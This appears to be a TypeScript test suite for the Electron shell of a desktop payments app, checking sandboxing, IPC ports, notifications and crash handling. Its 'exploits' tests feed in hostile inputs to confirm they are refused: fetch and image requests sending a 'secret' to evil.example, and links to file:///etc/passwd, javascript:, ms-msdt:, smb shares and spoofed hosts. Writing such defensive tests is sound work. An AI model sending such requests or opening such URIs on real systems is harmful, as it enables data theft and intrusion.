/** The desktop host's own promises, on the Electron double, with a page and an engine made for it. */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { CountersignBridge } from '../../../core/contract/desktop-bridge.ts';
import type { CallOrigin } from '../../../main/engine/host.ts';
import { sharedChromium } from '../../support/chromium.ts';
import { type DesktopOptions, type RunningDesktop, runDesktop } from '../../support/electron/desktop.ts';
import { FakeEngine } from '../../support/electron/fake-engine.ts';
import { preventable } from '../../support/electron/strict.ts';

/** Keeps what it is told, so that a test can ask the page afterwards. */
const PAGE_SCRIPT = `
const told = { ports: [], heard: [], closed: 0, commands: [] };
window.told = told;
window.addEventListener('message', ({ data, ports, origin, source }) => {
  if (data?.type !== 'countersign:port' || origin !== location.origin || source !== window) return;
  const [port] = ports;
  told.ports.push(port);
  port.addEventListener('message', ({ data }) => told.heard.push(typeof data === 'string' ? data : [...data]));
  port.addEventListener('close', () => { told.closed += 1; });
  port.start();
});
told.stopListening = window.countersign.onCommand((command) => told.commands.push(command));
`;

declare global {
  interface Window {
    readonly countersign?: CountersignBridge;
    /** What the page of these tests was told. */
    readonly told: {
      readonly ports: MessagePort[];
      readonly heard: unknown[];
      readonly closed: number;
      readonly commands: string[];
      stopListening(): void;
    };
  }
}

let browser: Browser;
let rendererFolder: string;
let desktop: RunningDesktop;
let engine: FakeEngine;

beforeAll(async () => {
  browser = await sharedChromium();
  rendererFolder = await mkdtemp(path.join(os.tmpdir(), 'countersign-page-'));
  await writeFile(
    path.join(rendererFolder, 'index.html'),
    '<!doctype html><title>desk</title><h1>Desk</h1><script src="./page.js"></script>',
  );
  await writeFile(path.join(rendererFolder, 'page.js'), PAGE_SCRIPT);
});

afterAll(async () => {
  await rm(rendererFolder, { recursive: true, force: true });
});

afterEach(async () => desktop.end());

async function open(options: Partial<DesktopOptions> = {}): Promise<Page> {
  engine = new FakeEngine();
  desktop = await runDesktop({ browser, rendererFolder, startEngine: async () => engine.engine, ...options });
  return desktop.world.page();
}

async function connect(page: Page): Promise<void> {
  const before = await page.evaluate(() => window.told.ports.length);
  await page.evaluate(() => window.countersign?.connect());
  await page.waitForFunction((count) => window.told.ports.length > count, before);
}

function eventsReported(): string[] {
  return desktop.reports.map(({ event }) => event);
}

describe('the window', () => {
  test('shows the first page from app://, with the content security policy as a header', async () => {
    const page = await open();
    expect(await page.title()).toBe('desk');
    expect(await page.evaluate(() => window.isSecureContext)).toBe(true);
    const [answer] = await Promise.all([page.waitForResponse(/page\.js$/), page.reload()]);
    expect(answer.headers()['content-security-policy']).toMatch(/^default-src 'none'/);
    expect(answer.headers()['x-content-type-options']).toBe('nosniff');
  });

  test('is walled off from Node: sandboxed, isolated, with nothing but the one narrow object', async () => {
    const page = await open();
    expect(desktop.world.window().options.webPreferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webviewTag: false,
      webSecurity: true,
      preload: 'preload.cjs',
    });
    expect(desktop.world.app.sandboxed).toBe(true);
    const seen = await page.evaluate(() => ({
      node: ['require', 'process', 'module', 'Buffer', 'global', 'electron'].filter((name) => name in window),
      bridge: Object.keys(window.countersign ?? {}).sort(),
      frozen: Object.isFrozen(window.countersign),
      platform: window.countersign?.platform,
    }));
    expect(seen).toEqual({
      node: [],
      bridge: ['connect', 'notify', 'onCommand', 'onNotice', 'platform', 'setBadge'],
      frozen: true,
      platform: 'linux',
    });
  });

  test('is shown once there is something to show, and has its tools only in development', async () => {
    await open();
    await expect.poll(() => desktop.world.window().shown).toBe(true);
    expect(desktop.world.window().options.webPreferences?.devTools).toBe(true);
    await desktop.end();
    await open({ world: { packaged: true } });
    expect(desktop.world.window().options.webPreferences?.devTools).toBe(false);
  });
});

describe('the desktop', () => {
  test('shows what the window asks for, a number on its icon, and brings the window forward when pressed', async () => {
    const page = await open();
    await page.evaluate(() => {
      const pressed: string[] = [];
      Object.assign(window, { pressed });
      window.countersign?.onNotice((id) => pressed.push(id));
      for (let at = 0; at < 15; at++)
        window.countersign?.notify({ id: `ntf_${at}`, title: 'All payments are frozen', body: '', urgent: at === 0 });
      window.countersign?.setBadge(15);
    });
    const { world } = desktop;
    await expect.poll(() => world.app.badge).toBe(15);
    // No page buries the desktop, whatever runs in it.
    expect(world.notifications).toHaveLength(10);
    expect(world.notifications[0]).toMatchObject({
      state: 'shown',
      options: { title: 'All payments are frozen', timeoutType: 'never' },
    });
    world.notifications[3]?.press();
    await page.waitForFunction(() => (window as unknown as { pressed: string[] }).pressed.length === 1);
    expect(await page.evaluate(() => (window as unknown as { pressed: string[] }).pressed)).toEqual(['ntf_3']);
    await world.forge(page, 'countersign:ask', {
      type: 'notify',
      notice: { id: 'x', title: 'y'.repeat(500), body: '', urgent: false },
    });
    await expect.poll(eventsReported).toContain('message.refused');
    expect(world.notifications).toHaveLength(10);
  });
});

describe('the connection', () => {
  test('carries text and bytes both ways, in order', async () => {
    const page = await open();
    await connect(page);
    engine.echo();
    const sent = Array.from({ length: 200 }, (_, index) => `message ${index}`);
    await page.evaluate((messages) => {
      for (const message of messages) window.told.ports[0]?.postMessage(message);
      window.told.ports[0]?.postMessage(new Uint8Array([0, 1, 255]));
    }, sent);
    await page.waitForFunction((count) => window.told.heard.length === count, sent.length + 1);
    expect(await page.evaluate(() => window.told.heard)).toEqual([
      ...sent.map((message) => message.toUpperCase()),
      [255, 254, 0],
    ]);
    expect(engine.connections[0]?.origin).toEqual({ host: 'desktop', ip: null, userAgent: null });
  });

  test('closes in the window when the engine dies, and a new one is given', async () => {
    const page = await open();
    await connect(page);
    engine.connections[0]?.port.close();
    await page.waitForFunction(() => window.told.closed === 1);
    await connect(page);
    expect(engine.connections).toHaveLength(2);
  });

  test('ends in the engine when the page is reloaded', async () => {
    const page = await open();
    await connect(page);
    const closed = new Promise<string>((resolve) => engine.connections[0]?.port.once('close', () => resolve('closed')));
    await page.reload();
    expect(await closed).toBe('closed');
  });

  test('is one at a time: asking again ends the one before', async () => {
    const page = await open();
    await connect(page);
    const closed = new Promise((resolve) => engine.connections[0]?.port.once('close', resolve));
    await connect(page);
    await closed;
    await page.waitForFunction(() => window.told.closed === 1);
    expect(await page.evaluate(() => window.told.ports.length)).toBe(2);
  });

  test('is not asked for in a rush while the engine gives only ports that die at once', async () => {
    const page = await open();
    const connecting = engine.engine.connect;
    Object.assign(engine.engine, {
      connect: (origin: CallOrigin) => {
        const port = connecting(origin);
        engine.connections.at(-1)?.port.close();
        return port;
      },
    });
    await page.evaluate(() => {
      // As eager as a page can be: it asks again in the moment it is told that its port closed.
      const ask = () => window.countersign?.connect();
      window.addEventListener('message', ({ ports }) => ports[0]?.addEventListener('close', ask));
      ask();
    });
    await page.waitForFunction(() => window.told.closed >= 3);
    const elapsed = engine.askedAtMs.map((at) => at - (engine.askedAtMs[0] ?? 0));
    expect(elapsed[2]).toBeGreaterThanOrEqual(2 * 240);
  });

  test('waits for an engine that is still starting', async () => {
    const { promise, resolve } = Promise.withResolvers<void>();
    const page = await open({ startEngine: () => promise.then(() => engine.engine) });
    await page.evaluate(() => window.countersign?.connect());
    expect(engine.connections).toHaveLength(0);
    resolve();
    await page.waitForFunction(() => window.told.ports.length === 1);
  });
});

describe('a page that dies', () => {
  test('is brought back a few times, then the program says so and ends', async () => {
    await open();
    const { contents } = desktop.world.window();
    for (let death = 1; death <= 3; death += 1) {
      contents.emit('render-process-gone', {}, { reason: 'crashed', exitCode: 139 });
      expect(desktop.world.window().reloads).toBe(death);
    }
    contents.emit('render-process-gone', {}, { reason: 'clean-exit', exitCode: 0 });
    expect(desktop.world.dialog.errors).toEqual([]);
    contents.emit('render-process-gone', {}, { reason: 'oom', exitCode: 1 });
    expect(desktop.world.window().reloads).toBe(3);
    expect(desktop.world.dialog.errors).toHaveLength(1);
    expect(await desktop.world.app.exited).toBe(0);
    expect(engine.stopped).toBe(1);
  });
});

describe('exploits', () => {
  test('exploit: a web view is attached, or an answer redirects the window elsewhere', async () => {
    await open();
    const { contents } = desktop.world.window();
    const attach = preventable({});
    contents.emit('will-attach-webview', attach);
    expect(attach.defaultPrevented).toBe(true);
    const away = preventable({ url: 'https://evil.example/', isMainFrame: true });
    contents.emit('will-redirect', away);
    expect(away.defaultPrevented).toBe(true);
    const within = preventable({ url: 'app://countersign/', isMainFrame: true });
    contents.emit('will-redirect', within);
    expect(within.defaultPrevented).toBe(false);
  });

  test('exploit: a foreign frame in the window asks for a port', async () => {
    const page = await open();
    await page.evaluate(() => document.body.append(document.createElement('iframe')));
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    if (frame === undefined) throw new Error('The page has no frame inside');
    await desktop.world.forge(frame as unknown as Page, 'countersign:ask', { type: 'connect' });
    await expect.poll(eventsReported).toContain('message.refused');
    expect(desktop.reports.at(-1)?.facts).toEqual({ reason: 'not from the main frame' });
    expect(engine.connections).toHaveLength(0);
  });

  test('exploit: a message with more in it than the program sends', async () => {
    const page = await open();
    const hostile: unknown[][] = [
      [{ type: 'connect', host: 'server' }],
      [{ type: 'connect' }, { type: 'connect' }],
      [{ type: 'quit' }],
      ['connect'],
      [],
    ];
    for (const said of hostile) await desktop.world.forge(page, 'countersign:ask', ...said);
    await expect.poll(() => desktop.reports.length).toBe(hostile.length);
    expect(new Set(eventsReported())).toEqual(new Set(['message.refused']));
    expect(engine.connections).toHaveLength(0);
  });

  test('exploit: the page navigates to https://evil.example', async () => {
    const page = await open();
    await page.evaluate(() => {
      window.location.href = 'https://evil.example/?secret=1';
    });
    await expect.poll(eventsReported).toContain('navigation.refused');
    expect(desktop.reports[0]?.facts).toEqual({ url: 'https://evil.example/' });
    // While it is being refused, the title is of where it would go.
    await expect.poll(() => page.title()).toBe('desk');
    expect(desktop.world.reachedOutside).toEqual([]);
  });

  test('exploit: the page opens a window, and what it names is not ours to open', async () => {
    const page = await open();
    const hostile = [
      'https://evil.example/',
      'file:///etc/passwd',
      'javascript:alert(1)',
      'https://stellar.expert@evil.example/',
      'https://stellar.expert.evil.example/',
      'smb://evil.example/share',
      'ms-msdt:/id',
    ];
    for (const url of hostile) await page.evaluate((address) => void window.open(address), url);
    await expect.poll(() => eventsReported().filter((event) => event === 'link.refused')).toHaveLength(hostile.length);
    expect(desktop.world.shell.opened).toEqual([]);
    expect(desktop.world.window().contents.windowsLetOpen).toEqual([]);
  });

  test('exploit: the page loads or sends to a network', async () => {
    const page = await open();
    await page.evaluate(() =>
      fetch('https://evil.example/', { method: 'POST', body: 'secret' }).catch(() => undefined),
    );
    await page.evaluate(() => {
      const image = new Image();
      image.src = 'https://evil.example/pixel.png';
      document.body.append(image);
    });
    expect(desktop.world.reachedOutside).toEqual([]);
    expect(desktop.world.session.mayRequest('https://evil.example/')).toBe(false);
    expect(desktop.world.session.mayRequest('http://127.0.0.1:8080/')).toBe(false);
    expect(desktop.world.session.mayRequest('file:///etc/passwd')).toBe(false);
    expect(desktop.world.session.mayRequest('ws://evil.example/')).toBe(false);
    expect(desktop.world.session.mayRequest('app://countersign/index.html')).toBe(true);
  });

  test('exploit: a permission is asked for', async () => {
    await open();
    const { session } = desktop.world;
    const ours = { url: 'app://countersign/' };
    for (const permission of [
      'media',
      'geolocation',
      'clipboard-read',
      'openExternal',
      'hid',
      'fileSystem',
      'notifications',
    ] as const) {
      expect(await session.asksFor(permission, ours), permission).toBe(false);
      expect(session.has(permission, ours), permission).toBe(false);
    }
    expect(session.mayUseDevice('hid', 'app://countersign')).toBe(false);
    expect(session.spellChecker).toBe(false);
    expect(session.download('blob:app://countersign/1')).toBe(false);
    // Copying is the one thing granted, and to nobody else.
    expect(session.has('clipboard-sanitized-write', ours)).toBe(true);
    expect(session.has('clipboard-sanitized-write', { url: 'https://evil.example/' })).toBe(false);
    expect(session.has('clipboard-sanitized-write', { ...ours, isMainFrame: false })).toBe(false);
  });

  test('exploit: an installed program started with a debugging port', async () => {
    engine = new FakeEngine();
    desktop = await runDesktop({
      browser,
      rendererFolder,
      startEngine: async () => engine.engine,
      args: ['--remote-debugging-port=9222'],
      world: { packaged: true },
    });
    expect(await desktop.world.app.exited).toBe(1);
    expect(desktop.world.dialog.errors[0]?.content).toContain('--remote-debugging-port');
    expect(desktop.world.windows).toHaveLength(0);
  });
});

describe('links', () => {
  test('open in the system browser when they lead to a provider of ours', async () => {
    const page = await open();
    await page.evaluate(() => void window.open('https://stellar.expert/explorer/public/tx/1'));
    await expect.poll(() => desktop.world.shell.opened).toEqual(['https://stellar.expert/explorer/public/tx/1']);
    expect(desktop.world.window().contents.windowsLetOpen).toEqual([]);
  });
});

describe('the system', () => {
  test('sends menu commands to the page, until it stops listening', async () => {
    const page = await open();
    desktop.world.menu.choose('lock');
    desktop.world.menu.choose('new-payout');
    await page.waitForFunction(() => window.told.commands.length === 2);
    expect(await page.evaluate(() => window.told.commands)).toEqual(['lock', 'new-payout']);
    await page.evaluate(() => window.told.stopListening());
    desktop.world.menu.choose('help');
    await connect(page); // comes after the command on the same line
    expect(await page.evaluate(() => window.told.commands)).toEqual(['lock', 'new-payout']);
  });

  test('locks the desk when the screen is locked and when the machine sleeps', async () => {
    const page = await open();
    desktop.world.powerMonitor.emit('lock-screen');
    desktop.world.powerMonitor.emit('suspend');
    await page.waitForFunction(() => window.told.commands.length === 2);
    expect(await page.evaluate(() => window.told.commands)).toEqual(['lock', 'lock']);
  });

  test('a second start brings the first window forward, and runs nothing itself', async () => {
    await open();
    desktop.world.window().minimize();
    desktop.world.app.emit('second-instance', {}, [], '', null);
    expect(desktop.world.window().isMinimized()).toBe(false);
    expect(desktop.world.window().focused).toBe(1);
    await desktop.end();

    engine = new FakeEngine();
    let engineStarts = 0;
    desktop = await runDesktop({
      browser,
      rendererFolder,
      startEngine: async () => {
        engineStarts += 1;
        return engine.engine;
      },
      world: { firstInstance: false },
    });
    expect(await desktop.world.app.exited).toBe(0);
    expect(engineStarts).toBe(0);
    expect(desktop.world.windows).toHaveLength(0);
  });

  test('closing the window stops the engine first, once, and then the program', async () => {
    const page = await open();
    let gone = false;
    void desktop.world.app.exited.then(() => {
      gone = true;
    });
    const stop = Promise.withResolvers<void>();
    const running = engine.engine.stop;
    Object.assign(engine.engine, { stop: () => stop.promise.then(running) });
    await page.close();
    desktop.world.app.quit(); // an impatient person
    await new Promise((resolve) => setImmediate(resolve));
    expect(gone).toBe(false);
    stop.resolve();
    expect(await desktop.world.app.exited).toBe(0);
    expect(engine.stopped).toBe(1);
  });

  test('an engine that cannot start is said so, and the program ends', async () => {
    engine = new FakeEngine();
    desktop = await runDesktop({
      browser,
      rendererFolder,
      startEngine: async () => {
        throw new Error('The folder of vaults cannot be written');
      },
    });
    expect(await desktop.world.app.exited).toBe(1);
    expect(desktop.world.dialog.errors[0]).toEqual({
      title: 'Countersign cannot start',
      content: 'The folder of vaults cannot be written',
    });
  });
});
